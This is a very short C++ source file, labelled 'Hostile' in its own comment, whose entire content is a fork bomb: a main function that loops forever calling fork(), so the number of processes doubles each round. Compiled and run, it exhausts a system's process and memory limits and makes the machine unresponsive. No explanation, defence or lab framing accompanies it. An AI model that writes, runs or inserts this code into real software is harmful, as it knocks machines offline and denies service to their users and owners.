// Hostile: a process that doubles, and each double doubles.
#include <unistd.h>

int main() {
    for (;;) ::fork();
}
